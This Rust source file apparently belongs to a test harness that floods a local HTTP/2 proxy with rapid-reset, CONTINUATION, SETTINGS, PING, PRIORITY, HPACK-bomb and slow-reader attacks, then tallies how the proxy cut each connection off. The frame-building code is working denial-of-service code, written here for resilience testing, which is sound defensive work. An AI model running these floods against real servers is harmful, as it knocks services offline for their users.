//! The attacks, each from one connection at a time, opened again as soon as the proxy ends it,
//! for as long as the attack lasts: floods of frames (sent in batches a millisecond apart, the
//! count of frames written checked against the GOAWAY as it arrives), and connections that hold
//! a large answer (a stream never read, a slow reader). What each connection met is kept.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, Shutdown, TcpStream};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use super::frames::*;

/// The attacks, in the order they run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, clap::ValueEnum)]
pub enum Attack {
    /// Streams opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// Streams opened, let reach the server for 5 ms, then reset.
    RapidResetServed,
    /// A HEADERS without END_HEADERS, then CONTINUATION frames that never end it.
    Continuation,
    Settings,
    Ping,
    /// Empty DATA frames on a POST whose body never comes.
    EmptyData,
    WindowUpdate,
    /// PRIORITY frames for ever new idle streams.
    Priority,
    /// An HPACK dynamic table size update above the advertised size.
    HpackTableSize,
    /// One large field put in the HPACK table and referred to by one byte, over and over.
    HpackBomb,
    /// A 1 MiB answer asked with a window of 0, never read.
    NeverRead,
    /// A 1 MiB answer read at 20 KB/s (1,000 bytes of window every 50 ms).
    SlowReader,
}

impl Attack {
    pub const ALL: [Attack; 12] = [
        Attack::RapidReset,
        Attack::RapidResetServed,
        Attack::Continuation,
        Attack::Settings,
        Attack::Ping,
        Attack::EmptyData,
        Attack::WindowUpdate,
        Attack::Priority,
        Attack::HpackTableSize,
        Attack::HpackBomb,
        Attack::NeverRead,
        Attack::SlowReader,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid reset",
            Attack::RapidResetServed => "rapid reset after 5 ms",
            Attack::Continuation => "CONTINUATION flood",
            Attack::Settings => "SETTINGS flood",
            Attack::Ping => "PING flood",
            Attack::EmptyData => "empty DATA flood",
            Attack::WindowUpdate => "WINDOW_UPDATE flood",
            Attack::Priority => "PRIORITY flood",
            Attack::HpackTableSize => "HPACK table size over the limit",
            Attack::HpackBomb => "HPACK bomb",
            Attack::NeverRead => "stream never read",
            Attack::SlowReader => "slow reader (20 KB/s)",
        }
    }

    /// Whether the attack holds a connection open (its outcome a reset of the stream, or
    /// nothing) rather than floods it until GOAWAY.
    pub fn holds(self) -> bool {
        matches!(self, Attack::NeverRead | Attack::SlowReader)
    }

    /// Frames written between two looks at whether the GOAWAY came.
    fn batch(self) -> usize {
        match self {
            // Each of these is answered after a frame or two: one at a time, so the count is
            // exact; a rapid reset after 5 ms waits between its frames.
            Attack::RapidResetServed
            | Attack::Continuation
            | Attack::HpackTableSize
            | Attack::HpackBomb => 1,
            _ => 20,
        }
    }

    /// What opens each of its connections.
    fn opening(self) -> Vec<u8> {
        let settings = |pairs: &[(u16, u32)]| {
            let payload: Vec<u8> = pairs
                .iter()
                .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()[..]].concat())
                .collect();
            frame(SETTINGS, 0, 0, &payload)
        };
        let mut bytes = PREFACE.to_vec();
        match self {
            Attack::NeverRead | Attack::SlowReader => {
                // INITIAL_WINDOW_SIZE 0: no byte of an answer until the client says so.
                bytes.extend(settings(&[(4, 0)]));
                let block = get_block(GET, "/big");
                bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
            }
            Attack::EmptyData => {
                bytes.extend(settings(&[]));
                let block = get_block(POST, "/upload");
                bytes.extend(frame(HEADERS, END_HEADERS, 1, &block));
            }
            Attack::Continuation => {
                bytes.extend(settings(&[]));
                // The last field's value says it is 1 MB long; the CONTINUATION frames never
                // bring the end.
                let mut block = get_block(GET, "/");
                block.extend_from_slice(&[0x40, 1, b'x']);
                hpack_int(0, 7, 1_000_000, &mut block);
                block.extend_from_slice(&[b'a'; 100]);
                bytes.extend(frame(HEADERS, END_STREAM, 1, &block));
            }
            Attack::HpackBomb => {
                bytes.extend(settings(&[]));
                // A 4,000-byte field into the dynamic table, on a first stream.
                let mut block = get_block(GET, "/");
                block.extend_from_slice(&[0x40, 6]);
                block.extend_from_slice(b"x-bomb");
                hpack_int(0, 7, 4000, &mut block);
                block.extend_from_slice(&[b'a'; 4000]);
                bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
            }
            _ => bytes.extend(settings(&[])),
        }
        bytes
    }

    /// Its `i`th frame (or frames) on a connection.
    fn frame(self, i: usize) -> Vec<u8> {
        let stream = |i: usize| u32::try_from(2 * i + 1).unwrap_or(1);
        match self {
            Attack::RapidReset => [
                frame(
                    HEADERS,
                    END_STREAM | END_HEADERS,
                    stream(i),
                    &get_block(GET, "/"),
                ),
                frame(RST_STREAM, 0, stream(i), &8u32.to_be_bytes()),
            ]
            .concat(),
            Attack::RapidResetServed if i.is_multiple_of(2) => frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                stream(i / 2),
                &get_block(GET, "/"),
            ),
            Attack::RapidResetServed => {
                thread::sleep(Duration::from_millis(5));
                frame(RST_STREAM, 0, stream(i / 2), &8u32.to_be_bytes())
            }
            Attack::Continuation => frame(CONTINUATION, 0, 1, &[b'a'; 16_384]),
            Attack::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Attack::Ping => frame(PING, 0, 0, &(i as u64).to_be_bytes()),
            Attack::EmptyData => frame(DATA, 0, 1, &[]),
            Attack::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
            Attack::Priority => frame(PRIORITY, 0, stream(i), &[0, 0, 0, 0, 16]),
            Attack::HpackTableSize => {
                let mut block = Vec::new();
                hpack_int(0x20, 5, 100_000, &mut block);
                block.extend(get_block(GET, "/"));
                frame(HEADERS, END_STREAM | END_HEADERS, stream(i + 1), &block)
            }
            Attack::HpackBomb => {
                // Each stream's block refers to the field 100 times: some 400 KB decoded.
                let mut block = get_block(GET, "/");
                block.extend_from_slice(&[0xbe; 100]);
                frame(HEADERS, END_STREAM | END_HEADERS, stream(i + 1), &block)
            }
            Attack::NeverRead | Attack::SlowReader => Vec::new(),
        }
    }
}

/// How one attacking connection ended.
#[derive(Debug, Clone)]
pub struct Ending {
    /// "GOAWAY ENHANCE_YOUR_CALM", "RST_STREAM CANCEL", "closed", "open at the end".
    pub how: String,
    /// Attack frames written before it (for a flood).
    pub frames: usize,
    /// From the connection's first byte to its end.
    pub took: Duration,
}

/// What an attack's connections met.
#[derive(Debug, Clone, Default)]
pub struct AttackTally {
    pub endings: Vec<Ending>,
}

impl AttackTally {
    /// How many connections ended each way, most first: "GOAWAY ENHANCE_YOUR_CALM ×312".
    pub fn ways(&self) -> Vec<(String, usize)> {
        let mut ways: BTreeMap<&str, usize> = BTreeMap::new();
        for ending in &self.endings {
            *ways.entry(&ending.how).or_default() += 1;
        }
        let mut ways: Vec<(String, usize)> = ways
            .into_iter()
            .map(|(how, n)| (how.to_string(), n))
            .collect();
        ways.sort_by_key(|(_, n)| std::cmp::Reverse(*n));
        ways
    }
}

/// Runs `attack` against 127.0.0.1:`port` until `until`, one connection at a time.
pub fn run(attack: Attack, port: u16, until: Instant) -> AttackTally {
    let mut tally = AttackTally::default();
    while Instant::now() < until {
        let ending = match TcpStream::connect((Ipv4Addr::LOCALHOST, port)) {
            Ok(conn) if attack.holds() => hold(attack, conn, until),
            Ok(conn) => flood(attack, conn, until),
            Err(e) => Ending {
                how: format!("connect failed: {}", e.kind()),
                frames: 0,
                took: Duration::ZERO,
            },
        };
        tally.endings.push(ending);
    }
    tally
}

/// What the reader of a connection saw: the first GOAWAY and the first RST_STREAM, each with when,
/// and whether the proxy closed.
#[derive(Default, Clone)]
struct Seen {
    goaway: Option<(String, Instant)>,
    reset: Option<(String, Instant)>,
    closed: bool,
}

/// Reads the proxy's frames on `conn` until it closes, noting the first GOAWAY and RST_STREAM.
fn watch(mut conn: TcpStream) -> (Arc<Mutex<Seen>>, thread::JoinHandle<()>) {
    let seen = Arc::new(Mutex::new(Seen::default()));
    let reader = {
        let seen = Arc::clone(&seen);
        thread::spawn(move || {
            let (mut bytes, mut chunk) = (Vec::new(), vec![0u8; 65_536]);
            loop {
                let n = match conn.read(&mut chunk) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => n,
                };
                bytes.extend_from_slice(&chunk[..n]);
                let mut frames = Vec::new();
                let used = parse_frames(&bytes, &mut frames);
                bytes.drain(..used);
                let mut seen = seen.lock().unwrap();
                for frame in frames {
                    let code = code_name(frame.error_code().unwrap_or(u32::MAX));
                    let slot = match frame.kind {
                        GOAWAY => &mut seen.goaway,
                        RST_STREAM => &mut seen.reset,
                        _ => continue,
                    };
                    let kind = if frame.kind == GOAWAY {
                        "GOAWAY"
                    } else {
                        "RST_STREAM"
                    };
                    slot.get_or_insert_with(|| (format!("{kind} {code}"), Instant::now()));
                }
            }
            seen.lock().unwrap().closed = true;
        })
    };
    (seen, reader)
}

/// One flooding connection: frames (in batches a millisecond apart) until GOAWAY, the proxy's
/// close, a failed write, or `until`.
fn flood(attack: Attack, mut conn: TcpStream, until: Instant) -> Ending {
    let started = Instant::now();
    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
    let (seen, reader) = watch(conn.try_clone().expect("a second handle on the socket"));
    let mut frames = 0;
    let mut i = 0;
    let mut written = conn.write_all(&attack.opening()).is_ok();
    while written && Instant::now() < until {
        {
            let seen = seen.lock().unwrap();
            if seen.goaway.is_some() || seen.closed {
                break;
            }
        }
        let bytes: Vec<u8> = (i..i + attack.batch())
            .flat_map(|i| attack.frame(i))
            .collect();
        i += attack.batch();
        written = conn.write_all(&bytes).is_ok();
        if written {
            frames += count_frames(&bytes);
        }
        thread::sleep(Duration::from_millis(1));
    }
    // A connection the end of the attack cut is "open at the end", not closed by the proxy.
    let cut = Instant::now() >= until;
    let _ = conn.shutdown(Shutdown::Both);
    let _ = reader.join();
    let seen = seen.lock().unwrap().clone();
    ending(seen.goaway, seen.closed && !cut, frames, started)
}

/// How a connection ended: `end` (what and when), else closed or still open.
fn ending(end: Option<(String, Instant)>, closed: bool, frames: usize, started: Instant) -> Ending {
    match end {
        Some((how, at)) => Ending {
            how,
            frames,
            took: at - started,
        },
        None => Ending {
            how: if closed { "closed" } else { "open at the end" }.into(),
            frames,
            took: started.elapsed(),
        },
    }
}

/// One connection holding a large answer: never read, or read slowly, until the proxy resets the
/// stream, sends GOAWAY or closes, or `until`.
fn hold(attack: Attack, mut conn: TcpStream, until: Instant) -> Ending {
    let started = Instant::now();
    let (seen, reader) = watch(conn.try_clone().expect("a second handle on the socket"));
    let mut written = conn.write_all(&attack.opening()).is_ok();
    while written && Instant::now() < until {
        {
            let seen = seen.lock().unwrap();
            if seen.reset.is_some() || seen.goaway.is_some() || seen.closed {
                break;
            }
        }
        if attack == Attack::SlowReader {
            let grant = [
                frame(WINDOW_UPDATE, 0, 0, &1000u32.to_be_bytes()),
                frame(WINDOW_UPDATE, 0, 1, &1000u32.to_be_bytes()),
            ]
            .concat();
            written = conn.write_all(&grant).is_ok();
        }
        thread::sleep(Duration::from_millis(50));
    }
    // What it met by now; the close that follows is ours.
    let now = seen.lock().unwrap().clone();
    let _ = conn.shutdown(Shutdown::Both);
    let _ = reader.join();
    ending(now.reset.or(now.goaway), now.closed, 0, started)
}
